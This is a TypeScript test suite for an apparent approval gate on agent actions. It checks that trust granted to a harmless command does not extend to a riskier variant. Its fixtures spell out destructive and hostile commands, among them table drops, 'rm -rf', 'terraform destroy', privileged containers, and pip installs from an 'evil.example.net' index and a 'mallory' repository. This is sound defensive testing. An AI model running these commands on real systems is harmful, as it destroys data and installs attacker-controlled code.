import { expect, test } from 'vitest'
import type { JsonObject } from '../../src/ground/model/json.ts'
import { shapeOf } from '../../src/judge/reputation/shape-of.ts'
import { parseCall } from '../../src/gate/core/intake/parse-call.ts'
import { openPeopleGate } from './open-people-gate.ts'

const { gate } = openPeopleGate()
const defaults = { origin: 'check', agent: 'agent', session: 'session', profile: 'default' } as const
let calls = 0

async function shape(what: string | JsonObject) {
  const value = typeof what === 'string' ? { kind: 'shell', args: { command: what } } : what
  const call = parseCall({ id: `call-${++calls}`, ...value }, defaults)
  const { effects, assessment } = await gate.evaluate(call, { dryRun: true })
  return shapeOf(call, effects, assessment.contributions)
}

const tool = (name: string, args: JsonObject): JsonObject => ({ kind: 'tool', tool: name, args })

/** A call that people may approve again and again, and one that must not profit from it. */
const different: readonly (readonly [string, string | JsonObject, string | JsonObject])[] = [
  [
    'a database server',
    "psql -h staging.example.com -c 'drop table users'",
    "psql -h db.example.com -c 'drop table users'",
  ],
  ['a database', "psql -d app_scratch -c 'drop table users'", "psql -d app -c 'drop table users'"],
  ['a database user', "psql -U reader -c 'drop table users'", "psql -U postgres -c 'drop table users'"],
  ['a table', "psql -c 'drop table logs'", "psql -c 'drop table users'"],
  ['one row and all', "psql -c 'delete from users where id = 7'", "psql -c 'delete from users'"],
  ['a database file', "sqlite3 scratch.db 'drop table x'", "sqlite3 main.db 'drop table x'"],
  ['a cache server', 'redis-cli flushall', 'redis-cli -h cache.example.com flushall'],
  ['a MySQL server', "mysql -h a -e 'drop database x'", "mysql -h b -e 'drop database x'"],
  ['the folder that goes', 'rm -rf /srv/cache', 'rm -rf /srv/data'],
  ['a file of the system', 'rm /etc/motd', 'rm /etc/fstab'],
  ['what find picks', "find . -name '*.pyc' -delete", "find . -name '*.ts' -delete"],
  ['some and all', "find . -name '*.ts' -delete", 'find . -delete'],
  ['rights', 'chmod 640 /srv/a/x', 'chmod 777 /srv/a/x'],
  ['a remote', 'git push --force origin topic', 'git push --force upstream topic'],
  ['a deploy branch', 'git push --force origin topic', 'git push --force origin staging'],
  [
    'a protected branch by its long name',
    'git push --force origin topic',
    'git push --force origin topic:refs/heads/main',
  ],
  ['a repository beside', 'git push --force origin topic', 'git -C ../other push --force origin topic'],
  ['a skipped hook', 'git push --force origin topic', 'git push --force --no-verify origin topic'],
  ['a repository of a forge', 'gh repo delete me/scratch --yes', 'gh repo delete me/core --yes'],
  ['a merge past the checks', 'gh pr merge 12', 'gh pr merge 12 --admin'],
  ['a path of a forge', 'gh api -X DELETE repos/a/b/issues/1', 'gh api -X DELETE repos/a/b'],
  ['a release of another repository', 'gh release delete v1', 'gh release delete v1 -R other/core'],
  ['a package', 'npm unpublish scratch', 'npm unpublish core'],
  ['an owner', 'npm owner add bob core', 'npm owner add mallory core'],
  [
    'an index',
    'pip install -i https://mirror.example.com/simple x',
    'pip install -i https://evil.example.net/simple x',
  ],
  ['a source', 'pip install git+https://github.com/me/x', 'pip install git+https://github.com/mallory/x'],
  ['a namespace', 'kubectl delete pod web -n dev', 'kubectl delete pod web -n kube-system'],
  ['a cluster', 'kubectl delete pod web --context a', 'kubectl delete pod web --context b'],
  ['a pod', 'kubectl delete pod web', 'kubectl delete pod payments'],
  ['a bucket', 'aws s3 rb s3://tmp --force', 'aws s3 rb s3://backups --force'],
  ['an account', 'aws s3 rb s3://a', 'aws --profile customer s3 rb s3://a'],
  ['an account of the environment', 'aws s3 rb s3://a', 'AWS_PROFILE=customer aws s3 rb s3://a'],
  [
    'an instance',
    'aws ec2 terminate-instances --instance-ids i-0a',
    'aws ec2 terminate-instances --instance-ids i-0b',
  ],
  [
    'rights of an account',
    'aws iam attach-user-policy --user-name u --policy-arn arn:aws:iam::aws:policy/ReadOnlyAccess',
    'aws iam attach-user-policy --user-name u --policy-arn arn:aws:iam::aws:policy/AdministratorAccess',
  ],
  ['a part and the whole', 'terraform destroy -target=aws_instance.a', 'terraform destroy'],
  [
    'a resource',
    'terraform destroy -target=aws_instance.a',
    'terraform destroy -target=aws_db_instance.main',
  ],
  ['a volume', 'docker volume rm cache', 'docker volume rm pgdata'],
  ['a docker host', 'docker volume rm cache', 'docker -H tcp://b.example.com volume rm cache'],
  ['a container', 'docker exec web rm -rf /srv/x', 'docker exec db rm -rf /srv/x'],
  ['a privileged container', 'docker run alpine sh', 'docker run --privileged alpine sh'],
  ['a host', 'ssh a.example.com rm -rf /srv/x', 'ssh b.example.com rm -rf /srv/x'],
  ['a user there', 'ssh bob@a.example.com rm -rf /srv/x', 'ssh root@a.example.com rm -rf /srv/x'],
  ['a user here', 'sudo -u www rm -rf /srv/x', 'sudo rm -rf /srv/x'],
  ['a process', 'pkill -f worker', 'pkill -f postgres'],
  [
    'a path of an interface',
    'curl -X DELETE https://api.example.com/notes/1',
    'curl -X DELETE https://api.example.com/users/1',
  ],
  [
    'a port',
    'curl -X DELETE https://api.example.com/notes/1',
    'curl -X DELETE https://api.example.com:8443/notes/1',
  ],
  [
    'one and all of a kind',
    'curl -X DELETE https://api.example.com/notes/1',
    'curl -X DELETE https://api.example.com/notes',
  ],
  ['a script of a project', 'npm run build', 'npm run deploy'],
  [
    'an amount',
    tool('send_money', { to: 'DE11', amount: 90, currency: 'EUR' }),
    tool('send_money', { to: 'DE11', amount: 9000, currency: 'EUR' }),
  ],
  [
    'who is paid',
    tool('send_money', { to: 'DE11', amount: 90, currency: 'EUR' }),
    tool('send_money', { to: 'XX99', amount: 90, currency: 'EUR' }),
  ],
  [
    'a stranger’s mail box',
    tool('send_email', { to: 'ann@gmail.com', body: 'x' }),
    tool('send_email', { to: 'mallory@gmail.com', body: 'x' }),
  ],
  [
    'a channel',
    tool('post_message', { channel: '#me', text: 'x' }),
    tool('post_message', { channel: '#all', text: 'x' }),
  ],
  [
    'a role',
    tool('add_collaborator', { user: 'bob', role: 'read' }),
    tool('add_collaborator', { user: 'bob', role: 'write' }),
  ],
  [
    'a table of a tool',
    tool('delete_record', { table: 'notes', id: 1 }),
    tool('delete_record', { table: 'customers', id: 1 }),
  ],
  [
    'a repository of a tool',
    tool('delete_repository', { repo: 'a/scratch' }),
    tool('delete_repository', { repo: 'a/core' }),
  ],
]

/** Calls that a person sees as the same thing again. */
const same: readonly (readonly [string, string | JsonObject, string | JsonObject])[] = [
  [
    'code in a container',
    `docker compose exec web php -r 'unlink("a.txt");'`,
    `docker compose exec web php -r 'unlink("b.txt");'`,
  ],
  ['folders of the workspace', 'rm -rf src', 'rm -rf lib'],
  ['two files of one folder', 'rm /srv/a/x.txt', 'rm /srv/a/y.txt'],
  ['ways to spell a deletion', 'rm -rf src', 'rm -r -f src'],
  ['topic branches', 'git push --force origin topic-1', 'git push --force origin fix/other'],
  ['ways to spell force', 'git push --force origin topic', 'git push -f origin topic'],
  ['ways to spell main', 'git push --force origin main', 'git push --force origin HEAD:refs/heads/main'],
  ['requests', 'gh pr merge 12 --squash', 'gh pr merge 13 --squash'],
  ['titles', "gh pr create --title 'One' --body 'x'", "gh pr create --title 'Two' --body 'y'"],
  ['where an option stands', 'aws --profile a s3 rb s3://x', 'aws s3 rb s3://x --profile a'],
  ['where a namespace stands', 'kubectl -n dev delete pod web', 'kubectl delete pod web -n dev'],
  [
    'ways to spell a value',
    'kubectl --namespace=dev delete pod web',
    'kubectl --namespace dev delete pod web',
  ],
  [
    'names that a cluster drew',
    'kubectl delete pod web-7f9c6dabcd-x2x4z',
    'kubectl delete pod web-6b8d5c4f7e-q9w8e',
  ],
  [
    'one of a kind',
    'curl -X DELETE https://api.example.com/notes/1',
    'curl -X DELETE https://api.example.com/notes/2',
  ],
  [
    'a drawn name in an address',
    'curl -X DELETE https://api.example.com/n/0f8fad5b-d9cb-469f-a165-70867728950e',
    'curl -X DELETE https://api.example.com/n/7c9e6679-7425-40de-944b-e07fc1f90ae7',
  ],
  [
    'rows',
    "psql -d app -c 'delete from logs where id = 1'",
    "psql -d app -c 'delete from logs where id = 2'",
  ],
  ['versions', 'npm unpublish core@1.0.1', 'npm unpublish core@1.0.2'],
  ['processes', 'kill -9 4711', 'kill -9 4712'],
  [
    'people of a house',
    tool('send_email', { to: 'ann@example.com', body: 'x' }),
    tool('send_email', { to: 'bob@example.com', body: 'y' }),
  ],
  [
    'amounts of one size',
    tool('send_money', { to: 'DE11', amount: 50, currency: 'EUR' }),
    tool('send_money', { to: 'DE11', amount: 80, currency: 'EUR' }),
  ],
  [
    'records',
    tool('delete_record', { table: 'notes', id: 1 }),
    tool('delete_record', { table: 'notes', id: 2 }),
  ],
  [
    'words of a message',
    tool('post_message', { channel: '#me', text: 'one' }),
    tool('post_message', { channel: '#me', text: 'two' }),
  ],
  ['messages of commits', "git commit -am 'one'", "git commit -am 'two'"],
]

test.each(different)('trust does not pass over to another: %s', async (_what, harmless, harmful) => {
  expect((await shape(harmful)).key).not.toBe((await shape(harmless)).key)
})

test.each(same)('what a person sees as the same has one shape: %s', async (_what, one, other) => {
  expect(await shape(other)).toEqual(await shape(one))
})

test('the words of a shape hold no secret of an address or an option', async () => {
  const shapes = [
    'pip install git+https://user:hunter2secret@github.com/a/b',
    'git push --force https://user:hunter2secret@github.com/a/b topic',
    'psql postgresql://user:hunter2secret@db/app -c "drop table x"',
    'docker run -e PASSWORD=hunter2secret alpine',
    'curl -X DELETE https://api.example.com/x?token=hunter2secret',
    'API_TOKEN=hunter2secret gh repo delete a/b',
  ].map(shape)
  for (const { text } of await Promise.all(shapes)) expect(text).not.toContain('hunter2secret')
})

test('a name that is known only when the call runs earns no trust', async () => {
  const { shell, store } = openPeopleGate()
  const commands = [
    'kubectl delete namespace $NS',
    'git push --force origin $BRANCH',
    'aws s3 rb s3://$(cat name)',
  ]
  for (const command of commands) {
    const { reviewId = '' } = await shell(command)
    expect(store.people.review(reviewId), command).toMatchObject({ teaches: false })
  }
  const { reviewId = '' } = await shell('kubectl delete namespace scratch')
  expect(store.people.review(reviewId)).toMatchObject({ teaches: true })
})
